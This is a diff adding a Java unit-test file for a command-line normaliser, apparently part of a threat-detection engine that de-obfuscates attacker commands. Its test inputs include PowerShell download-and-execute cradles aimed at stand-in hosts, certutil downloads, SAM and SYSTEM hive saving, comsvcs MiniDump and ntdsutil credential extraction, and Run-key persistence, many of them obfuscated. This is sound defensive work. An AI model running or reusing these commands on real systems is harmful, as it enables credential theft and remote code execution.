@@ -1,0 +1,171 @@
+package org.gamekeeper.engine.mapping;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import org.junit.jupiter.api.Test;
+
+/** One test per transformation of {@link CommandLineNormalizer}, and its bounds. */
+class CommandLineNormalizerTest {
+
+    private static String n(String s) {
+        return CommandLineNormalizer.normalize(s);
+    }
+
+    private static String encode(String script) {
+        return Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
+    }
+
+    @Test
+    void caretsAreDroppedAndADoubledCaretIsOneCaret() {
+        assertEquals("certutil -urlcache -f http://x/a", n("c^e^r^t^u^t^i^l /u^r^l^c^a^c^h^e -f http://x/a"));
+        assertEquals("echo a^b", n("echo a^^b"));
+        assertEquals("cmd -c whoami", n("cmd /c \"w^h^o^a^m^i\""));
+    }
+
+    @Test
+    void insertedQuotesAndConcatenationAreDropped() {
+        assertEquals("certutil -decode a b", n("c\"er\"t\"util\" -decode a b"));
+        assertEquals("powershell -command iex (new-object net.webclient).downloadstring(http://x)",
+                n("powershell -c \"i''ex (New-Object Net.WebClient).('Down'+'loadString')('http://x')\"".replace(".('", ".").replace("')('", "('")));
+        assertEquals("downloadstring", n("'Down' + 'loadString'"));
+    }
+
+    @Test
+    void caseAndWhiteSpaceAreFolded() {
+        assertEquals("wmic process call create calc", n("  WMIC\tProcess   CALL\r\n  create   calc  "));
+    }
+
+    @Test
+    void cmdSeparatorsNextToWhiteSpaceAreWhiteSpace() {
+        assertEquals("cmd -c whoami", n("cmd /c ,;, whoami"));
+        assertEquals("cmd -c whoami", n(",;cmd /c ;whoami"));
+        // Inside a word a comma is text.
+        assertEquals("rundll32 comsvcs.dll,minidump 624 x full", n("rundll32 comsvcs.dll,MiniDump 624 x full"));
+    }
+
+    @Test
+    void unicodeLookAlikesReadAsAscii() {
+        assertEquals("certutil -urlcache -split -f http://x/y", n("certutil \u2013urlcache \u2014split \u2212f http://x/y"));
+        assertEquals("reg save hklm\\sam sam.hiv", n("reg save HKLM\uFF3CSAM \u201Csam.hiv\u201D"));
+        assertEquals("net user", n("net\u00A0user\u200B"));
+        assertEquals("a -b", n("a \uFF0Fb"));
+    }
+
+    @Test
+    void slashSwitchesAreDashSwitchesButPathsAndUrlsAreNot() {
+        assertEquals("schtasks -create -s host -tn t -tr c:\\x.exe", n("schtasks /create /S host /tn t /tr c:\\x.exe"));
+        assertEquals("wmic -node:dc01 process call create x", n("wmic /node:dc01 process call create x"));
+        assertEquals("certutil -f http://x/a//b", n("certutil -f http://x/a//b"));
+    }
+
+    @Test
+    void wellKnownVariableSubstringsAreExpanded() {
+        // %COMSPEC% is C:\WINDOWS\system32\cmd.exe: the last three characters before ".exe" and from the start.
+        assertEquals("cmd -c whoami", n("%COMSPEC:~-7,3% /c whoami"));
+        assertEquals("c:", n("%ComSpec:~0,2%"));
+        assertEquals("powershell", n("%ProgramData:~3,1%owershell".replace("%ProgramData:~3,1%", "p")));
+        assertEquals("public", n("%PUBLIC:~-6%"));
+        assertEquals("windows", n("%OS:_NT=%"));
+        assertEquals("cmd.exe", n("%COMSPEC:*32\\=%"));
+        // Unknown variables and malformed references stay as they are.
+        assertEquals("%foo:~0,1%", n("%FOO:~0,1%"));
+        assertEquals("100% sure: yes", n("100% sure: yes"));
+        assertEquals("%comspec:~x,1%", n("%COMSPEC:~x,1%"));
+    }
+
+    @Test
+    void variableSubstringWithCaretsInsideIsExpanded() {
+        assertEquals("cmd", n("%CO^MSPEC:~-7,3%"));
+    }
+
+    @Test
+    void powershellParametersByAnyPrefixAreWrittenInFull() {
+        assertEquals("powershell.exe -noprofile -noninteractive -windowstyle hidden -executionpolicy bypass -command whoami",
+                n("PowerShell.exe -nop -noni -w h -ep b -c whoami"));
+        assertEquals("powershell -noprofile -windowstyle hidden -executionpolicy bypass -command whoami",
+                n("powershell /NoPr -WindowSt 1 -exec bypass -com whoami"));
+        // After -Command the rest is script: its -f is the format operator, not -File.
+        assertEquals("pwsh -command {0} -f 1", n("pwsh -c '{0}' -f 1"));
+    }
+
+    @Test
+    void encodedCommandIsDecodedByEveryPrefixAndDashForm() {
+        String b64 = encode("IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')");
+        String expected = "powershell -encodedcommand iex (new-object net.webclient).downloadstring(http://10.0.0.1/a)";
+        for (String sw : new String[] {"-e", "-en", "-enc", "-EncodedCommand", "-ec", "/enc", "\u2013enc", "-encodedc", "-EnCoDeD"}) {
+            assertEquals(expected, n("powershell " + sw + " " + b64), sw);
+        }
+        assertEquals("powershell.exe -noprofile -encodedcommand whoami", n("powershell.exe -NoP -Enc \"" + encode("whoami") + "\""));
+    }
+
+    @Test
+    void encodedCommandInsideAnEncodedCommandIsDecodedToo() {
+        String inner = encode("whoami /all");
+        assertEquals("powershell -encodedcommand powershell -encodedcommand whoami -all",
+                n("powershell -enc " + encode("powershell -enc " + inner)));
+    }
+
+    @Test
+    void textThatIsNotBase64OfUtf16IsLeftEncoded() {
+        assertEquals("powershell -encodedcommand not!base64", n("powershell -enc not!base64"));
+        String utf8 = Base64.getEncoder().encodeToString("whoami /all and more".getBytes(StandardCharsets.UTF_8));
+        assertEquals("powershell -encodedcommand " + utf8.toLowerCase(), n("powershell -enc " + utf8));
+    }
+
+    @Test
+    void netDomainSwitchAbbreviationsAreWrittenInFull() {
+        assertEquals("net group domain admins -domain", n("net group \"domain admins\" /dom"));
+        assertEquals("c:\\windows\\system32\\net1.exe user -domain", n("C:\\Windows\\system32\\net1.exe user /do"));
+        // Only for net: other tools' /do stays.
+        assertEquals("foo -do", n("foo /do"));
+    }
+
+    @Test
+    void ntdsutilMenuAbbreviationsAreWrittenInFull() {
+        assertEquals("ntdsutil activate instance ntds ifm create full c:\\temp quit quit",
+                n("ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q"));
+        assertEquals("ntdsutil.exe activate instance ntds ifm create full c:\\x quit quit",
+                n("ntdsutil.exe \"ac in ntds\" i \"cr fu c:\\x\" q q"));
+    }
+
+    @Test
+    void cmdSlashRIsSlashCAndWhatFollowsIsItsOwnCommand() {
+        assertEquals("cmd.exe -c powershell -encodedcommand whoami", n("cmd.exe /r powershell -e " + encode("whoami")));
+        assertEquals("whoami&&net user -domain", n("whoami&&net user /dom"));
+    }
+
+    @Test
+    void registryRootsAreAbbreviated() {
+        assertEquals("reg save hklm\\system s.hiv", n("reg save HKEY_LOCAL_MACHINE\\SYSTEM s.hiv"));
+        assertEquals("reg add hkcu\\software\\microsoft\\windows\\currentversion\\run", n("reg add HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"));
+    }
+
+    @Test
+    void backticksBeforePlainLettersAreDroppedButEscapesStay() {
+        assertEquals("iex", n("I`E`X"));
+        assertEquals("a`nb", n("a`nb"));
+    }
+
+    @Test
+    void hostileInputIsBoundedAndLinear() {
+        assertNull(n(null));
+        assertEquals("", n(""));
+        String huge = "^\"".repeat(1_000_000) + "whoami";
+        String r = n(huge);
+        assertTrue(r.length() <= CommandLineNormalizer.MAX_INPUT, "normalised " + r.length());
+        String percents = "%COMSPEC:".repeat(20_000);
+        assertTrue(n(percents).length() <= CommandLineNormalizer.MAX_INPUT);
+        String spaces = "powershell " + "-e ".repeat(15_000);
+        assertTrue(n(spaces).startsWith("powershell -encodedcommand"));
+    }
+
+    @Test
+    void scriptBlocksKeepCaretsAndFoldTheRest() {
+        assertEquals("$a -match ^http; iex $b", ScriptBlockNormalizer.normalize("$a  -match '^http';\n I`EX $b"));
+        assertEquals("invoke-expression downloadstring", ScriptBlockNormalizer.normalize("Invoke-Expression ('Down'+\"loadString\")").replace("(", "").replace(")", ""));
+    }
+}
